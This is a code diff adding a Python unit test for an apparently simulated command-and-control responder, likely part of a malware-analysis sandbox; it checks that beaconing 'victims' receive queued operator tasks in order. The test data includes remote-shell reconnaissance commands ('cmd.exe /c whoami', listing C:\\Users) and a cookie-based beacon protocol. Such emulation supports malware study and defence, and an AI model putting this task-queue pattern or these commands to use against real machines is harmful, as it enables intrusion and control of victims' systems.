@@ -568,3 +568,22 @@ def test_synthetic_addresses_are_never_shared_and_run_out_with_a_note(tmp_path: 
     assert len(notes) == 1 and notes[0].what == "synthetic address pool exhausted"
     assert "one-too-many.test" in notes[0].detail
     assert router.host_of_address(addresses[0]) == "host0.test"  # type: ignore[arg-type]
+
+
+def test_c2_hands_out_each_victims_operator_tasks_in_order(tmp_path: Path) -> None:
+    (tmp_path / "stage3.bin").write_bytes(b"S")
+    options = c2_options()
+    options["tasks"] = ["shell cmd.exe /c whoami", "dir C:\\Users"]
+    options["routes"] = [
+        {"method": "GET", "path": "/tasks", "states": ["beaconed"], "action": "task", "response": {"status": 200}},
+        *options["routes"],
+    ]
+    c2 = C2Responder("c2", options, tmp_path)
+    for victim in ("alice", "bob"):
+        c2.respond(post("https://a.c2.test/b", b"1", Cookie=f"__tutma={victim}"))
+    answers = [c2.respond(get("https://a.c2.test/tasks", Cookie="__tutma=alice")).body for _ in range(3)]
+    assert answers == [b"shell cmd.exe /c whoami", b"dir C:\\Users", b"exit"]
+    # Each victim has its own place in the list; an unknown victim gets no task.
+    assert c2.respond(get("https://a.c2.test/tasks", Cookie="__tutma=bob")).body == b"shell cmd.exe /c whoami"
+    assert c2.respond(get("https://a.c2.test/tasks", Cookie="__tutma=eve")).status == 404
+    assert c2.state_summary()["victims"]["alice"]["tasks_given"] == 2
